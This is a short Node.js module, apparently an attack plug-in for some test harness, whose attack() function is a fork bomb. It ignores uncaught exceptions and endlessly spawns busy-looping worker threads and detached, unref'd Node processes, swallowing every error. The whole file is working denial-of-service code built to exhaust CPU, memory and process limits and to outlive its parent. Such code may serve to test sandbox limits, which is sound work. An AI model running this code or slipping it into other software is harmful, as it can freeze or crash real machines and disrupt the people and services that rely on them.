// Starts threads with heaps of their own, and processes that do the same.
"use strict";
const child = require("child_process");
const { Worker } = require("worker_threads");

function attack() {
  process.on("uncaughtException", () => {});
  for (;;) {
    try {
      new Worker("for(;;);", { eval: true }).on("error", () => {});
      child.spawn(process.execPath, ["-e", "for(;;);"], { detached: true, stdio: "ignore" }).on("error", () => {}).unref();
    } catch {
      continue;
    }
  }
}

module.exports = { at: "start", attack };
